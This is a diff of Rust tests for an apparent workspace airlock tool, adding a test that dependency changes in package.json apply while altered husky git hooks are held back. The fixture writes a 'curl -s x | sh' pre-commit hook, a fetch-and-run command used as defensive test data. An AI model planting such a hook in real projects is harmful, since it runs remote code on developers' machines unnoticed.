@@ -39,6 +39,7 @@ fn spec(ws: &Path) -> WorkspaceSpec {
         owned: vec![ws.join("airlock.toml")],
         keep: None,
         list: None,
+        home: None,
     }
 }
 
@@ -537,6 +538,52 @@ fn a_deltified_tree_in_a_pack_is_read() {
     assert!(
         text.iter()
             .any(|t| t.contains("puts `app2/.envrc` into its tree")),
+        "{text:?}"
+    );
+}
+
+/// A `package.json` whose dependencies a run changed, staged and committed,
+/// applies; one whose husky hooks it changed is held, in the work tree as
+/// in the index and the commit that carry it.
+#[test]
+fn package_json_hook_keys_are_compared_with_the_hosts() {
+    let host = "{\"name\":\"x\",\"dependencies\":{},\"husky\":{\"hooks\":{\"pre-commit\":\"lint-staged\"}}}\n";
+    let repo = |d: &Dirs| {
+        git(&d.ws, &["init", "-q", "-b", "main"]);
+        fs::write(d.ws.join("package.json"), host).unwrap();
+        git(&d.ws, &["add", "-A"]);
+        git(&d.ws, &["commit", "-q", "-m", "one"]);
+    };
+    let d = dirs();
+    repo(&d);
+    let run = copy_of(&d.ws, d._tmp.path());
+    fs::write(
+        run.join("package.json"),
+        host.replace("{}", "{\"left-pad\":\"1\"}"),
+    )
+    .unwrap();
+    git(&run, &["add", "package.json"]);
+    upper_of(&d.ws, &run, &d.upper);
+    let f = finish(&d.upper, &spec(&d.ws), &limits(), true);
+    let text: Vec<_> = f.violations.iter().map(|v| v.detail.as_str()).collect();
+    assert!(f.applied, "{text:?}");
+
+    let d = dirs();
+    repo(&d);
+    let run = copy_of(&d.ws, d._tmp.path());
+    fs::write(
+        run.join("package.json"),
+        host.replace("lint-staged", "curl -s x | sh"),
+    )
+    .unwrap();
+    git(&run, &["commit", "-q", "-am", "two"]);
+    upper_of(&d.ws, &run, &d.upper);
+    let f = finish(&d.upper, &spec(&d.ws), &limits(), true);
+    let text: Vec<_> = f.violations.iter().map(|v| v.detail.as_str()).collect();
+    assert!(!f.applied, "{text:?}");
+    assert!(
+        text.iter()
+            .any(|t| t.contains("package.json") && t.contains("`husky`")),
         "{text:?}"
     );
 }
